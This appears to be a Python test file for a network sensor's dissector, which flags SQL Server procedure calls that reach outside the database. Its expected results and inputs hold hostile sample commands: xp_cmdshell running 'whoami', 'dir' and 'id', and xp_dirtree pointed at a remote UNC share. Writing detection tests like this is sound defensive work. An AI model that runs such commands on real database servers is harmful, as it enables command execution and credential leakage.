"""SQL Server batches: procedures that reach outside the database; other batches are ignored."""

from __future__ import annotations

from sensor.core.packet import Packet
from sensor.dissectors.tds_batch import TdsBatch
from tests.dissectors.samples import events, packets


def test_the_small_capture() -> None:
    """Three procedure calls are reported; an ordinary query and responses of the server are not."""
    stream = TdsBatch().stream(Packet())
    messages = [one for each in packets("tds_batch") for one in stream.feed(each, each.payload, each.dport == 1433)]
    assert events(messages) == [
        ("TdsCommand", "xp_cmdshell", "xp_cmdshell 'whoami'"),
        ("TdsCommand", "xp_cmdshell", "XP_CMDSHELL 'dir c:\\'"),
        ("TdsCommand", "xp_dirtree", "xp_dirtree '\\\\10.20.30.66\\share'"),
    ]


def test_other_bytes_report_nothing() -> None:
    """A payload without batch headers, another message type and an empty batch yield nothing."""
    stream, wide = TdsBatch().stream(Packet()), "xp_cmdshell 'id'".encode("utf-16-le")
    for data in (
        b"\x01\x01" + wide,
        b"\x05\x01\0\x1e\0\0\x01\0\x16\0\0\0" + wide,
        b"\x01\x01\0\x1e\0\0\x01\0\x16\0\0\0",
    ):
        assert list(stream.feed(Packet(), data, True)) == []
